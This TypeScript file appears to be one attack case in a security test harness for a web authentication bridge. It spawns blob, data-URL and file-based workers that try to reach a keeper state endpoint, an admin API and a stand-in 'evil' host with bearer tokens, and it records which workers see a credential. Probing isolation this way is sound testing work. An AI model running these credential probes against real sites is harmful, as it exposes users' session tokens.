import type { Attack } from './harness/attack.js';

export const attack: Attack = {
  title: 'workers below a kernel: blob, data and a file of the site, classic and module',
  from: 'kernel',
  differs: true,
  script: async ({ site, platform, evil, handles }, kit) => {
    const urls: Record<string, string> = {
      keeper: `${site}auth-bridge/keeper/state`,
      denied: `${platform}api/v1/admin/x`,
      'no rule': `${evil}x`,
    };
    const look = async (urls: Record<string, string>, bearers: string[], kind: string) => {
      const seen: string[] = [];
      for (const [name, url] of Object.entries(urls)) {
        // The keeper's URLs look at no stand-in, and take their time: once will do.
        for (const bearer of name === 'keeper' ? [''] : bearers) {
          const headers = bearer === '' ? {} : { authorization: `Bearer ${bearer}` };
          const named = `${url}?try=${kind} ${name}`;
          try {
            const response = await fetch(named, { headers });
            seen.push(await response.text(), JSON.stringify([...response.headers]));
            const request = new XMLHttpRequest();
            request.open('GET', named, false);
            if (bearer !== '') request.setRequestHeader('authorization', `Bearer ${bearer}`);
            request.send();
            seen.push(request.responseText, request.getAllResponseHeaders());
          } catch (error) {
            seen.push(String(error));
          }
        }
      }
      return seen;
    };
    const seen: unknown[] = [];
    const bearers = ['', handles.own, handles.dead];
    for (const type of ['classic', 'module'] as const) {
      const source = (kind: string) =>
        `(${look.toString()})(${JSON.stringify(urls)}, ${JSON.stringify(bearers)}, ${JSON.stringify(kind)}).then(postMessage)`;
      for (const [kind, url] of [
        ['blob', URL.createObjectURL(new Blob([source('blob')], { type: 'text/javascript' }))],
        ['data', `data:text/javascript,${encodeURIComponent(source('data'))}`],
        ['file', `${site}attacking-kernel.js`],
      ] as const) {
        const worker = new Worker(url, {
          type,
          name: 'auth-bridge-keeper',
          credentials: 'include',
        });
        const said = new Promise((resolve) => {
          worker.onmessage = ({ data }) => resolve(data);
          worker.onerror = ({ message }) => resolve(message);
        });
        const call = `(target, kit) => (${look.toString()})(...target)`;
        if (kind === 'file') worker.postMessage(['attack', 1, call, [urls, bearers, kind]]);
        seen.push({ name: `${kind} ${type}`, said: await kit.within(9_000, said) });
        worker.terminate();
      }
    }
    return seen;
  },
  fromWeak: ['blob classic saw a credential', 'file classic saw a credential'],
};
